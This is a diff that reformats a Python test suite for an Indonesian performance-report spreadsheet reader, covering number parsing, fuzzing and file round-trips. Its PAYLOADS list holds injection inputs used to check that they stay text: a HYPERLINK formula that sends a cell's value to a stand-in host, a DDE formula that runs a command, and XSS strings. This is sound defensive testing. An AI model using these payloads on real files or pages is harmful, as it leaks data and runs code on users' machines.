@@ -50,7 +50,8 @@ def test_corpus_case(case: Case) -> None:
     check(res, case.ok, *case.expect)
     if case.only:
         assert {f.code for f in res.findings} == {e.code for e in case.expect}, [
-            f.line() for f in res.findings]
+            f.line() for f in res.findings
+        ]
     if case.check is not None:
         case.check(res)
     assert codes(res) <= set(KODE_TEMUAN)
@@ -87,8 +88,9 @@ def test_pk_changed_since_the_form_was_made() -> None:
     from dataclasses import replace
 
     pk = example_pk()
-    inds = tuple(replace(i, target=D(13), target_teks="13") if i.kode == "IK.12" else i
-                 for i in pk.indikator)
+    inds = tuple(
+        replace(i, target=D(13), target_teks="13") if i.kode == "IK.12" else i for i in pk.indikator
+    )
     res = read(filled(), pk=replace(pk, indikator=inds))
     check(res, False)
     assert {f.code for f in res.findings} == {"pk-berubah", "target-diubah"}
@@ -100,9 +102,16 @@ def test_pk_changed_since_the_form_was_made() -> None:
 # ---- 51 Indonesian text numbers, 53 sentinels ----------------------------------------------
 
 TEXT_NUMBERS = [
-    ("1.234,56", D("1234.56")), ("1.500", D("1500")), ("85%", D("85")), ("85\u00a0%", D("85")),
-    ("Rp 1.500.000", D("1500000")), ("Rp. 1.500.000,-", D("1500000")), ("0,85", D("0.85")),
-    (" 85 ", D("85")), ("\uff11\uff12\uff13", D("123")), ("65.4", D("65.4")),
+    ("1.234,56", D("1234.56")),
+    ("1.500", D("1500")),
+    ("85%", D("85")),
+    ("85\u00a0%", D("85")),
+    ("Rp 1.500.000", D("1500000")),
+    ("Rp. 1.500.000,-", D("1500000")),
+    ("0,85", D("0.85")),
+    (" 85 ", D("85")),
+    ("\uff11\uff12\uff13", D("123")),
+    ("65.4", D("65.4")),
 ]
 
 
@@ -111,8 +120,13 @@ def test_51_indonesian_text_numbers(text: str, expected: Decimal) -> None:
     res = read(set_cells(filled(), J10=text, K10=text))  # IK.13, km, kumulatif
     assert res.ok, [f.line() for f in res.findings]
     assert res.data.realisasi["IK.13"] == [expected, expected]
-    assert not [f for f in res.findings if f.cell in ("J10", "K10") and f.code != "narasi-wajib-kosong"
-                and f.code != "perubahan-besar"]
+    assert not [
+        f
+        for f in res.findings
+        if f.cell in ("J10", "K10")
+        and f.code != "narasi-wajib-kosong"
+        and f.code != "perubahan-besar"
+    ]
 
 
 def test_51_rupiah_text_in_budget() -> None:
@@ -147,9 +161,15 @@ def test_54_negative_count() -> None:
 # ---- 58/59 injection payloads stay text -----------------------------------------------------
 
 PAYLOADS = [
-    '=HYPERLINK("http://x.example/?d="&A2,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1+1",
-    '=1+2";=1+2', "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-    "javascript:alert(1)", '" onmouseover="x',
+    '=HYPERLINK("http://x.example/?d="&A2,"Klik")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1",
+    "-1+1",
+    '=1+2";=1+2',
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+    '" onmouseover="x',
 ]
 
 
@@ -173,9 +193,19 @@ def test_64_libreoffice_round_trip(tmp_path: Path) -> None:
     src.write_bytes(filled())
     out = tmp_path / "lo"
     proc = subprocess.run(
-        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
-         "--convert-to", "xlsx", "--outdir", str(out), str(src)],
-        capture_output=True, timeout=180, check=False,
+        [
+            "soffice",
+            "--headless",
+            f"-env:UserInstallation=file://{tmp_path}/profile",
+            "--convert-to",
+            "xlsx",
+            "--outdir",
+            str(out),
+            str(src),
+        ],
+        capture_output=True,
+        timeout=180,
+        check=False,
     )
     assert proc.returncode == 0, proc.stderr
     data = (out / NAME).read_bytes()
@@ -227,8 +257,9 @@ def _assert_sane(res: FormRead) -> None:
         assert res.data is None or any(f.severity == ERROR for f in res.findings)
 
 
-@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow],
-          phases=_NO_SHRINK)
+@settings(
+    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow], phases=_NO_SHRINK
+)
 @given(st.lists(st.tuples(st.integers(0, 1 << 30), st.integers(1, 255)), min_size=1, max_size=8))
 def test_random_byte_flips_never_raise(flips: list[tuple[int, int]]) -> None:
     data = bytearray(filled())
@@ -237,15 +268,27 @@ def test_random_byte_flips_never_raise(flips: list[tuple[int, int]]) -> None:
     _assert_sane(_read_bounded(bytes(data)))
 
 
-_MEMBERS = [KINERJA_XML, "xl/worksheets/sheet3.xml", "xl/worksheets/sheet4.xml",
-            "xl/workbook.xml", "xl/styles.xml", "docProps/custom.xml", "[Content_Types].xml"]
+_MEMBERS = [
+    KINERJA_XML,
+    "xl/worksheets/sheet3.xml",
+    "xl/worksheets/sheet4.xml",
+    "xl/workbook.xml",
+    "xl/styles.xml",
+    "docProps/custom.xml",
+    "[Content_Types].xml",
+]
 
 
-@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow],
-          phases=_NO_SHRINK)
-@given(member=st.sampled_from(_MEMBERS), seed=st.integers(0, 1 << 32),
-       insert=st.text(alphabet=st.sampled_from([*'<>/="&;#x0123 abcvfr:', "\u00a0", "é"]),
-                      max_size=20))
+@settings(
+    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.too_slow], phases=_NO_SHRINK
+)
+@given(
+    member=st.sampled_from(_MEMBERS),
+    seed=st.integers(0, 1 << 32),
+    insert=st.text(
+        alphabet=st.sampled_from([*'<>/="&;#x0123 abcvfr:', "\u00a0", "é"]), max_size=20
+    ),
+)
 def test_random_xml_edits_never_raise(member: str, seed: int, insert: str) -> None:
     from support.corpus import read_member, rewrite_zip
 
@@ -264,26 +307,60 @@ def test_random_xml_edits_never_raise(member: str, seed: int, insert: str) -> No
 
 
 _VALUE = st.one_of(
-    st.none(), st.booleans(), st.integers(-10**18, 10**18),
+    st.none(),
+    st.booleans(),
+    st.integers(-(10**18), 10**18),
     st.floats(allow_nan=True, allow_infinity=True),
-    st.decimals(allow_nan=False, allow_infinity=False, places=4, min_value=-10**9, max_value=10**9),
+    st.decimals(
+        allow_nan=False, allow_infinity=False, places=4, min_value=-(10**9), max_value=10**9
+    ),
     st.datetimes(min_value=dt.datetime(1900, 3, 1), max_value=dt.datetime(2100, 1, 1)),
     st.text(max_size=40),
     st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=40),
-    st.sampled_from(["=1+2", "1.234,56", "１２３", "\u00a0", "#DIV/0!", "Ada", "-", "n/a", 1e30,
-                     1e300, -1e-300, "9" * 400, "1" + ".000" * 150, 2**63]),
+    st.sampled_from(
+        [
+            "=1+2",
+            "1.234,56",
+            "１２３",
+            "\u00a0",
+            "#DIV/0!",
+            "Ada",
+            "-",
+            "n/a",
+            1e30,
+            1e300,
+            -1e-300,
+            "9" * 400,
+            "1" + ".000" * 150,
+            2**63,
+        ]
+    ),
 )
 
 
-@settings(max_examples=40, deadline=None, phases=_NO_SHRINK,
-          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
-@given(st.dictionaries(st.sampled_from(["J7", "K7", "K8", "K10", "L7", "M8", "G7", "B9", "D7",
-                                        "K12", "O12", "P13"]), _VALUE, min_size=1, max_size=6))
+@settings(
+    max_examples=40,
+    deadline=None,
+    phases=_NO_SHRINK,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
+)
+@given(
+    st.dictionaries(
+        st.sampled_from(
+            ["J7", "K7", "K8", "K10", "L7", "M8", "G7", "B9", "D7", "K12", "O12", "P13"]
+        ),
+        _VALUE,
+        min_size=1,
+        max_size=6,
+    )
+)
 def test_random_cell_values_never_raise(cells: dict[str, object]) -> None:
     from openpyxl.utils.exceptions import IllegalCharacterError
 
     try:
-        data = edit(filled(), lambda wb: [wb["Kinerja"].__setitem__(k, v) for k, v in cells.items()])
+        data = edit(
+            filled(), lambda wb: [wb["Kinerja"].__setitem__(k, v) for k, v in cells.items()]
+        )
     except (IllegalCharacterError, ValueError, TypeError, OverflowError):
         return  # openpyxl refuses to write it: no such file can exist
     _assert_sane(_read_bounded(data))
